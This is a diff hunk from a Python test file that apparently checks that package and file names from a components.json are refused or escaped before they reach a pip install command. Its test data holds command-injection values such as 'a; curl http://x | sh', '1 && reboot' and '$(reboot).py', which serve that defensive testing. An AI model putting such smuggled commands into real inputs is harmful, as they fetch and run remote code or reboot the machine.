@@ -201,7 +201,7 @@ def test_names_reach_the_terminal_and_the_report_as_text(start, tmp_path):
     [
         ({"package": "good-name", "version": "1.2"}, "pip install good-name==1.2"),
         *(
-            ({"package": package, "version": version}, "what the run's components.json holds is no name")
+            ({"package": package, "version": version}, "what the run's components.json holds is not a name")
             for package, version in (("a; curl http://x | sh", "1"), ("good", "1 && reboot"), ("-r", "1"))
         ),
         ({"file": "$(reboot).py", "sha256": "0" * 64}, "--components '$(reboot).py' as it was then"),
